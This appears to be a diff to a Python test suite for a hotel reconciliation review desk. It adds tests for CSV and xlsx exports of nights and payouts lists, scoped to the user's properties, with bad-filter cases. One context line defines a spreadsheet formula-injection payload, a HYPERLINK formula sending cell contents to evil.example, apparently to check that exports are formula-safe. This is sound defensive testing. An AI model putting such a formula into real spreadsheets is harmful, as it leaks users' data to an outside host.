@@ -1,6 +1,6 @@
-"""The desk's downloads on a real server over SQLite and PostgreSQL: the findings and adjustments lists as
-CSV and xlsx (the list's rows, formula-safe, the user's properties only, audited, cut at a limit) and the
-night's HTML report under its own Content-Security-Policy."""
+"""The desk's downloads on a real server over SQLite and PostgreSQL: the findings, adjustments, nights and
+payouts lists as CSV and xlsx (the list's rows, formula-safe, the user's properties only, audited, cut at a
+limit) and the night's HTML report under its own Content-Security-Policy."""
 
 from __future__ import annotations
 
@@ -17,9 +17,10 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import Engine, insert, select
 
-from recon_pipeline.db.schema import adjustments, discrepancies, review_audit
+from recon_pipeline.db.schema import adjustments, discrepancies, payouts, review_audit
 from recon_pipeline.review_desk.pages import exports
 from recon_pipeline_tests.desk_fixtures import NIGHT, NOW, add_user, finding, served_desk, sign_in
+from recon_pipeline_tests.test_review_desk_nights import payout_row
 
 EARLIER = "2026-12-01"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -186,6 +187,51 @@ def test_an_adjustments_export_is_the_users_filtered_queue(client: httpx.Client)
     )  # header
 
 
+def test_the_nights_overview_export_has_a_row_per_night_and_category_of_the_users_properties(
+    client: httpx.Client,
+) -> None:
+    rows = csv_rows(client.get("/nights/export.csv"))
+    assert sorted(
+        (row["property_id"], row["night"], row["category"], row["outstanding"]) for row in rows
+    ) == [
+        ("p1", EARLIER, "amount_mismatch", "1"),
+        ("p1", NIGHT, "amount_mismatch", "2"),
+    ]
+    tonight = next(row for row in rows if row["night"] == NIGHT)
+    assert tonight["outstanding_amounts"] == "15.20 EUR"  # sum of |difference|: 15.00 + 0.20
+    assert tonight["adjustment_states"] == "approved 1, proposed 1"
+    assert tonight["review_states"] == "open 2" and tonight["freshness"] == "never reconciled"
+    one_night = client.get("/nights/export.xlsx", params={"night_from": NIGHT, "night_to": NIGHT})
+    assert attachment_name(one_night) == f"nights-{NIGHT}_{NIGHT}.xlsx"
+    sheet = load_workbook(io.BytesIO(one_night.content)).active
+    assert sheet is not None
+    header, *values = [[cell.value for cell in row] for row in sheet.iter_rows()]
+    assert [row[header.index("night")] for row in values] == [NIGHT]
+
+
+def test_the_payouts_export_holds_the_users_payouts_with_their_deposit(
+    client: httpx.Client, desk: Desk
+) -> None:
+    with desk.engine.begin() as connection:
+        connection.execute(
+            insert(payouts),
+            [payout_row("po_p1", "p1"), payout_row("po_failed", "p1", "failed"), payout_row("po_p2", "p2")],
+        )
+    rows = csv_rows(client.get("/payouts/export.csv"))
+    assert sorted((row["payout_id"], row["status"], row["deposited"]) for row in rows) == [
+        ("po_failed", "failed", "False"),
+        ("po_p1", "paid", "False"),
+    ]
+    failed = client.get("/payouts/export.xlsx", params={"status": "failed"})
+    assert attachment_name(failed) == "payouts-failed.xlsx"
+    sheet = load_workbook(io.BytesIO(failed.content)).active
+    assert sheet is not None
+    header, *values = [[cell.value for cell in row] for row in sheet.iter_rows()]
+    assert [(row[header.index("payout_id")], row[header.index("amount_minor")]) for row in values] == [
+        ("po_failed", 12_345)
+    ]
+
+
 @pytest.mark.parametrize(
     ("path", "params", "named"),
     [
@@ -194,6 +240,8 @@ def test_an_adjustments_export_is_the_users_filtered_queue(client: httpx.Client)
         ("/findings/export.csv", {"amount_at_least": "-5"}, "amount at least"),
         ("/adjustments/export.xlsx", {"property": "p2"}, "p2"),
         ("/adjustments/export.csv", {"state": "bogus"}, "bogus"),
+        ("/nights/export.csv", {"property": "p2"}, "p2"),
+        ("/payouts/export.xlsx", {"status": "lost"}, "lost"),
     ],
 )
 def test_a_bad_filter_is_refused_in_one_line(
